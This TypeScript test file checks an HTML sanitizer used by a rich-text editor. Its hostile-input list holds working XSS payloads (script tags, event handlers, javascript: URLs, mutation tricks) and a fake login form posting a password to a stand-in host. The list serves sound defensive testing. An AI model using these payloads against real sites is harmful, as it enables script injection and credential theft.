import { richTextSamples } from '@vidya/contracts/testing/rich-text-samples';
import { cleanHtml } from './clean-html.ts';

const cleaned = (html: string): Element => {
  const place = document.createElement('div');
  place.innerHTML = cleanHtml(html);
  return place;
};

/** Input that could run code, load files or imitate the page. Only its text may remain. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<p onclick=alert(1) style="position:fixed;inset:0" id="main" class="x" data-x="1" aria-hidden="true">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<object data="x"></object><embed src="x"><video src="x" onerror="alert(1)"></video>',
  '<template><img src=x onerror=alert(1)></template><noscript><img src=x onerror=alert(1)></noscript>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<p><b><u><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const allowedTags = new Set('P BR H3 H4 UL OL LI STRONG B EM I U S A BLOCKQUOTE CODE PRE'.split(' '));
const allowedAttributes = new Set(['href', 'rel', 'target']);

test.each(hostile)('leaves nothing that could act of %j', (html) => {
  const elements = [...cleaned(html).querySelectorAll('*')];
  expect(elements.map(({ tagName }) => tagName).filter((tag) => !allowedTags.has(tag))).toEqual([]);
  const names = elements.flatMap((element) => element.getAttributeNames());
  expect(names.filter((name) => !allowedAttributes.has(name))).toEqual([]);
  const links = elements.map((element) => element.getAttribute('href')).filter((href) => href !== null);
  expect(links.filter((href) => !/^(?:https?:|mailto:)/.test(href))).toEqual([]);
});

test.each(richTextSamples)('shows what the editor writes: %s', (html) => {
  expect(cleaned(html).innerHTML).toBe(html);
});

test('keeps what the editor makes, and opens links apart', () => {
  const html =
    '<h3>What</h3><p><strong>a</strong> <em>b</em> <u>c</u> <s>d</s> <b>e</b> <i>f</i></p><ul><li>g</li></ul><blockquote>h</blockquote><pre><code>i</code></pre>';
  expect(cleaned(html).innerHTML).toBe(html);
  const link = cleaned('<a href="https://vidya.example" target="_self" rel="opener">x</a>').firstElementChild;
  expect(link).toHaveAttribute('target', '_blank');
  expect(link).toHaveAttribute('rel', 'nofollow noopener noreferrer');
});
